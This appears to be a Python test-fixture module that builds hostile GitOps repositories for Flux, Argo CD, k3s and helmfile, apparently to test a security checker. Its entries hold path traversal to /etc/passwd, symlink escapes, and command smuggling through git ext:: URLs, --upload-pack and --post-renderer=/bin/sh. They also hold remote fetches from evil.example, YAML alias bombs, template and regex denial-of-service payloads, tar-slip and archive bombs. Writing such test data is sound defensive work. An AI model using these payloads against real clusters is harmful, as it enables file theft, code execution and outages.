"""Repositories of GitOps tools whose author means harm: by name, the files of each."""

import base64
import io
import tarfile
from collections.abc import Mapping
from typing import TypeAlias

from archcheck.frozen import dataclass


@dataclass(frozen=True, slots=True)
class Link:
    """A symbolic link, and where it leads."""

    target: str


Files: TypeAlias = Mapping[str, str | Link]

_UP = "../" * 24
_PASSWORDS = _UP + "etc/passwd"
_POD = """
apiVersion: v1
kind: Pod
metadata: {name: web, namespace: apps}
spec: {containers: [{name: web, image: 'ghcr.io/acme/web:1'}]}
"""
_SYNC = """
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: flux-system, namespace: flux-system}
spec: {path: ./apps, sourceRef: {kind: GitRepository, name: flux-system}}
"""
_CHART = {
    "chart/Chart.yaml": "apiVersion: v2\nname: chart\nversion: 1.0.0\n",
    "chart/values.yaml": "tag: '1'\n",
    "chart/templates/pod.yaml": _POD.replace("name: web,", "name: '{{ .Release.Name }}',"),
}
_ENTRY = "clusters/home/flux-system/gotk-sync.yaml"


def _flux(spec: str = "", path: str = "./apps", **apps: str | Link) -> Files:
    """Return a repository that Flux reconciles: what lies in `apps`, by names without their ending."""
    sync = _SYNC.replace("./apps", path).replace("sourceRef", f"{spec} sourceRef")
    return {_ENTRY: sync, "apps/pod.yaml": _POD, **{f"apps/{name}.yaml": text for name, text in apps.items()}}


def _kustomized(rest: str, **apps: str) -> Files:
    return _flux(kustomization=f"resources: [pod.yaml]\n{rest}\n", **apps)


def _release(
    chart: str = "./chart",
    more: str = "",
    rest: str = "",
    source: str = "flux-system",
    **chart_files: str | Link,
) -> Files:
    text = f"""
apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {{name: web, namespace: apps}}
spec:
  chart: {{spec: {{chart: {chart}, sourceRef: {{kind: GitRepository, name: {source}, namespace: flux-system}}{more}}}}}
{rest}
"""
    files = {f"chart/{name.replace('__', '/')}.yaml": content for name, content in chart_files.items()}
    return {**_flux(release=text), **_CHART, **files}


def _function(how: str) -> str:
    return f"""
apiVersion: acme/v1
kind: Generator
metadata:
  name: generator
  annotations:
    config.kubernetes.io/function: |
      {how}
"""


def _aliases(indent: int = 0) -> str:
    """Return a mapping of nine lines whose aliases stand for a billion values."""
    pad = " " * indent
    lines = [pad + "a: &a [x, x, x, x, x, x, x, x, x, x]"]
    for before, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{pad}{name}: &{name} [{', '.join([f'*{before}'] * 10)}]")
    return "\n".join(lines) + "\n"


_EXEC = "exec: {path: ./run.sh}"
_RUN = {"apps/run.sh": "#!/bin/sh\ntouch pwned\n"}
_GIT = """
apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {{name: flux-system, namespace: flux-system}}
spec: {{url: '{url}', ref: {{branch: '{branch}'}}}}
"""


def _elsewhere(url: str, branch: str = "main") -> Files:
    """Return a release whose chart lies in another repository."""
    source = _GIT.format(url=url, branch=branch).replace("name: flux-system,", "name: other,")
    return {**_release(source="other"), "apps/source.yaml": source}


_ARTIFACTS = """
apiVersion: source.extensions.fluxcd.io/v1beta1
kind: ArtifactGenerator
metadata: {name: generator, namespace: flux-system}
spec:
  sources: [{alias: own, kind: GitRepository, name: flux-system}]
  artifacts:
  - name: built
    copy:
    - {from: '@own/../../../../../etc/**', to: '@artifact/../../../../tmp/pwned/'}
    - {from: '@own/**/**/**/**/**/**', to: '@artifact/'}
"""
_RESOURCE_SET = """
apiVersion: fluxcd.controlplane.io/v1
kind: ResourceSet
metadata: {name: many, namespace: apps}
spec:
"""

FLUX: Mapping[str, Files] = {
    **{
        f"{name} outside": _kustomized(text.replace("OUT", _PASSWORDS))
        for name, text in {
            "a patch": "patches: [{path: OUT}]",
            "a patch by its absolute path": "patches: [{path: /etc/passwd}]",
            "files of a generator": "configMapGenerator: [{name: x, files: [OUT], envs: [OUT]}]",
            "a schema": "openapi: {path: OUT}",
            "a definition": "crds: [OUT]",
            "a configuration": "configurations: [OUT]",
            "a replacement": "replacements: [{path: OUT}]",
            "a component": "components: [OUT]",
        }.items()
    },
    "a resource outside": _flux(kustomization=f"resources: [pod.yaml, {_PASSWORDS}]\n"),
    "a folder that is a link": {_ENTRY: _SYNC, "apps": Link("/etc")},
    "a resource that is a link": _flux(
        kustomization="resources: [pod.yaml, link.yaml]\n", link=Link("/etc/passwd")
    ),
    "a manifest that is a link": _flux(link=Link("/etc/passwd")),
    "a kustomization that is a link": _flux(kustomization=Link("/etc/passwd")),
    "a function that runs a program": {
        **_kustomized("generators: [generator.yaml]", generator=_function(_EXEC)),
        **_RUN,
    },
    "a function that runs a container": _kustomized(
        "transformers: [generator.yaml]", generator=_function("container: {image: acme/evil}")
    ),
    "a plugin in Go": _kustomized(
        "generators: [generator.yaml]",
        generator="apiVersion: acme.example/v1\nkind: ChartInflator\nmetadata: {name: x}\n",
    ),
    "charts of a kustomization": _kustomized("helmCharts: [{name: web, repo: 'https://evil.example'}]"),
    "charts from elsewhere on this machine": _kustomized(
        "helmGlobals: {chartHome: /etc, configHome: /root}\nhelmCharts: [{name: ssl}]"
    ),
    "a helm of its own": _kustomized("helmChartInflationGenerator: [{chartName: x, helmBin: ./run.sh}]"),
    "a ring of kustomizations": {
        **_flux(kustomization="resources: [../ring]\n"),
        "ring/kustomization.yaml": "resources: [../apps]\n",
    },
    "a ring of Kustomizations": _flux(own=_SYNC.replace("name: flux-system, n", "name: own, n")),
    "a path above": _flux(path=".."),
    "a path far above": _flux(path=_UP + "etc"),
    "a path of many parts": _flux(path="a/" * 3000),
    "a path of one long name": _flux(path="a" * 300),
    "a path with a zero": _flux(path='"a\\0b"'),
    "a path that commands a terminal": _flux(path='"\\e[31mred"'),
    "a component of one long name": _flux(f"components: ['{'a' * 300}'], ignoreMissingComponents: true,"),
    "a component with a zero": _flux('components: ["a\\0b"], ignoreMissingComponents: true,'),
    "a component far above": _flux(f"components: ['{_UP}etc'],"),
    "aliases in a manifest": _flux(bomb=_POD + _aliases()),
    "aliases in a kustomization": _kustomized(_aliases()),
    "aliases in values": _release(rest="  values:\n" + _aliases(4)),
    "depth": _flux(deep="a: " + "[" * 20_000 + "]" * 20_000 + "\n"),
    "many variables": _flux(
        f"postBuild: {{substitute: {{A: '{'x' * 100_000}'}}}},",
        config="apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {a: '" + "${A}" * 50_000 + "'}\n",
    ),
    "a pattern of variables": _flux(
        f"postBuild: {{substitute: {{A: '{'a' * 20_000}'}}}},",
        config="apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {a: '${A##"
        + "*a" * 200
        + "b}'}\n",
    ),
    "nested variables": _flux(
        "postBuild: {substitute: {A: a}},",
        config="apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {a: '"
        + "${U:=" * 5000
        + "}" * 5000
        + "'}\n",
    ),
    "a chart outside": _release(_UP + "etc"),
    "a chart with a zero": _release('"a\\0b"'),
    "a chart of one long name": _release("a" * 400),
    "value files outside": _release(more=f", valuesFiles: [/etc/passwd, {_PASSWORDS}]"),
    "a release whose name is an option": _release(rest="  releaseName: --post-renderer=/bin/sh\n"),
    "a namespace that is an option": _release(rest="  targetNamespace: --post-renderer=/bin/sh\n"),
    "a chart that includes itself": _release(
        templates__pod='{{ define "x" }}{{ include "x" . }}{{ end }}{{ include "x" . }}'
    ),
    "a chart that reads a file": _release(
        templates__pod='a: {{ .Files.Get "' + _PASSWORDS + '" | quote }}\n'
    ),
    "a chart with a link": _release(templates__link=Link("/etc/passwd")),
    "a chart that depends on one outside": {
        **_release(),
        "chart/Chart.yaml": _CHART["chart/Chart.yaml"]
        + f"dependencies: [{{name: x, version: 1.0.0, repository: 'file://{_UP}etc'}}]\n",
    },
    "a git address that runs a program": _elsewhere("ext::sh -c touch% pwned"),
    "a git address on this machine": _elsewhere("file:///etc"),
    "a branch that is an option": _elsewhere("https://evil.example/x", "--upload-pack=touch pwned"),
    "a repository of charts that is an option": _elsewhere("--upload-pack=touch pwned"),
    "artifacts outside": _flux(
        generator=_ARTIFACTS,
        kustomization="resources: [pod.yaml, generator.yaml, applied.yaml]\n",
        applied=_SYNC.replace("name: flux-system, n", "name: applied, n")
        .replace("GitRepository, name: flux-system", "ExternalArtifact, name: built")
        .replace("./apps", "./"),
    ),
    "a template without end": _flux(
        resources=_RESOURCE_SET + "  resourcesTemplate: |\n    << range until 100000000 >>x<< end >>\n"
    ),
}
"""Repositories of Flux."""

_APPLICATION = """
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: web, namespace: argocd}
spec:
  destination: {server: https://kubernetes.default.svc, namespace: apps}
  source:
    repoURL: https://git.example/acme/fleet
    path: chart
"""


def _argo(options: str, path: str = "chart", **files: str | Link) -> Files:
    below = {f"chart/{name}.yaml": content for name, content in files.items()}
    application = _APPLICATION.replace("path: chart", f"path: {path}") + f"    {options}\n"
    return {**_CHART, "app.yaml": application, **below}


def _set(generator: str, name: str = "x-{{.a}}") -> Files:
    text = f"""
apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata: {{name: many, namespace: argocd}}
spec:
  goTemplate: true
  generators:
  - {generator}
  template:
    metadata: {{name: '{name}'}}
    spec:
      destination: {{server: https://kubernetes.default.svc, namespace: apps}}
      source: {{repoURL: https://git.example/acme/fleet, path: chart}}
"""
    return {**_CHART, "set.yaml": text}


def _list(count: int, key: str = "a") -> str:
    return f"list: {{elements: [{', '.join(f'{{{key}: v{number}}}' for number in range(count))}]}}"


_ONE = "list: {elements: [{a: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa}]}"
_HELM_CHART = (
    "apiVersion: helm.cattle.io/v1\nkind: HelmChart\nmetadata: {name: web, namespace: kube-system}\nspec:\n"
)


def _archive(entries: Mapping[str, bytes], link: tuple[str, str] | None = None) -> str:
    """Return a chart's archive as k3s has it in an object."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for name, data in {"chart/Chart.yaml": _CHART["chart/Chart.yaml"].encode(), **entries}.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
        if link is not None:
            member = tarfile.TarInfo(link[0])
            member.type, member.linkname = tarfile.SYMTYPE, link[1]
            archive.addfile(member)
    return base64.b64encode(stream.getvalue()).decode()


REMOTE: Mapping[str, Files] = {
    text: _flux(kustomization=f"resources: [pod.yaml, '{text}']\n")
    for text in (
        "https://evil.example/all.yaml",
        "https://evil.example/x//base?ref=v1",
        "github.com/acme/evil//base?ref=v1",
        "git@evil.example:acme/evil.git",
        "ssh://git@evil.example/acme/evil",
        "git::https://evil.example/x",
        "git::ext::sh -c touch%20pwned",
        "file:///etc//x?ref=HEAD",
    )
} | {
    "a component": _kustomized("components: ['https://evil.example/x//component']"),
    "a component of the object": _flux("components: ['https://evil.example/x//component'],"),
    "a patch": _kustomized("patches: [{path: 'https://evil.example/patch.yaml'}]"),
    "a file of a generator": _kustomized(
        "configMapGenerator: [{name: x, files: ['https://evil.example/x']}]"
    ),
    "a base of a base": {
        **_flux(kustomization="resources: [../base]\n"),
        "base/kustomization.yaml": "resources: ['https://evil.example/all.yaml']\n",
    },
}
"""Repositories of Flux that are made of what lies elsewhere."""

ARGO: Mapping[str, Files] = {
    "value files": _argo(
        f"helm: {{valueFiles: [/etc/passwd, {_PASSWORDS}, '$ref/../../x', 'file:///etc/passwd']}}"
    ),
    "a value file that is a link": _argo("helm: {valueFiles: [link.yaml]}", link=Link("/etc/passwd")),
    "globs of value files": _argo("helm: {valueFiles: ['**/**/**/**/**/**/*a*a*a*a*a*a*a*b']}"),
    "parameters of files": _argo(
        f"helm: {{fileParameters: [{{name: tag, path: /etc/passwd}}, {{name: b, path: {_PASSWORDS}}}]}}"
    ),
    "options of helm": _argo(
        "helm: {releaseName: '--post-renderer=/bin/sh', namespace: '--debug', apiVersions: ['--debug']}"
    ),
    "a version of Kubernetes that is an option": _argo("helm: {kubeVersion: --post-renderer=/bin/sh}"),
    "components of kustomize": {
        **_argo(f"kustomize: {{components: ['{_UP}etc'], patches: [{{path: /etc/passwd}}]}}", "folder"),
        "folder/kustomization.yaml": "resources: [pod.yaml]\n",
        "folder/pod.yaml": _POD,
    },
    "a path outside": _argo("helm: {skipCrds: true}", _UP + "etc"),
    "a path of one long name": _argo("helm: {skipCrds: true}", "a" * 400),
    "a path with a zero": _argo("helm: {skipCrds: true}", '"a\\0b"'),
    "a plugin": _argo("plugin: {name: evil}"),
    "folders that are links": {
        **_argo("directory: {recurse: true, include: '{{{{*,**,*a*}*}*}*}'}", "folder"),
        "folder/etc": Link("/etc"),
        "folder/own": Link("."),
        "folder/pod.yaml": _POD,
    },
    "aliases in a value file": _argo("helm: {valueFiles: [bomb.yaml]}", bomb=_aliases()),
    "aliases in values": _argo("helm:\n      values: |\n" + _aliases(8)),
    "nested matrices": _set(
        f"matrix: {{generators: [{{{_list(120)}}}, {{matrix: {{generators: [{{{_list(120, 'b')}}}, "
        f"{{{_list(120, 'c')}}}]}}}}]}}",
        "x-{{.a}}-{{.b}}-{{.c}}",
    ),
    "a regular expression": _set(_ONE, '{{ regexReplaceAll "(a+)+b" .a "x" }}'),
    "a text repeated": _set(_ONE, "{{ repeat 1000000000 .a }}"),
    "a range": _set(_ONE, "{{ range until 1000000000 }}x{{ end }}"),
    "ranges in ranges": _set(
        _ONE, "{{ range until 1000 }}{{ range until 1000 }}{{ range until 1000 }}x{{ end }}{{ end }}{{ end }}"
    ),
    "a width": _set(_ONE, '{{ printf "%1000000000d" 1 }}'),
    "a template within itself": _set(
        _ONE, '{{ define "x" }}{{ template "x" . }}{{ end }}{{ template "x" . }}'
    ),
    "depth of a template": _set(_ONE, "{{ " + "(" * 3000 + ".a" + ")" * 3000 + " }}"),
    "depth of conditions": _set(_ONE, "{{ if .a }}" * 3000 + "{{ end }}" * 3000),
    "variables of this machine": _set(_ONE, '{{ env "HOME" }}{{ getHostByName "evil.example" }}'),
    "a chart that deploys itself": {
        "root.yaml": _APPLICATION,
        "chart/Chart.yaml": _CHART["chart/Chart.yaml"],
        "chart/values.yaml": "number: 0\n",
        "chart/templates/own.yaml": _APPLICATION.replace("name: web", "name: web-{{ add .Values.number 1 }}")
        + "    helm: {parameters: [{name: number, value: '{{ add .Values.number 1 }}'}]}\n",
        "chart/templates/pod.yaml": _POD,
    },
    "an archive that leaves its folder": {
        "chart.yaml": f"{_HELM_CHART}  chartContent: {_archive({_UP + 'tmp/pwned': b'x'})}\n"
    },
    "an archive with a link": {
        "chart.yaml": f"{_HELM_CHART}  chartContent: {_archive({}, ('chart/values.yaml', '/etc/passwd'))}\n"
    },
    "an archive that grows": {
        "chart.yaml": f"{_HELM_CHART}  chartContent: {_archive({'chart/zeros': bytes(160 * 1024 * 1024)})}\n"
    },
    "a chart on this machine": {"chart.yaml": f"{_HELM_CHART}  chart: /etc\n"},
    "a chart that is an option": {
        "chart.yaml": f"{_HELM_CHART}  chart: --post-renderer=/bin/sh\n  repo: --x\n  version: --y\n"
    },
    "a state of helmfile": {
        "helmfile.yaml": "repositories: [{name: x, url: 'git+https://evil.example/x'}]\n"
        f"releases: [{{name: web, chart: {_UP}etc, values: [/etc/passwd, {_PASSWORDS}]}}]\n"
        f"helmfiles: [{_UP}etc/x.yaml, 'git::ext::sh']\nbases: [/etc/passwd]\n"
        "hooks: [{events: [prepare], command: touch, args: [pwned]}]\n"
    },
    "a state of helmfile within itself": {
        **_CHART,
        "helmfile.yaml": "helmfiles: [helmfile.yaml]\nreleases: [{name: web, chart: ./chart}]\n",
    },
}
"""Repositories of Argo CD, k3s and helmfile."""
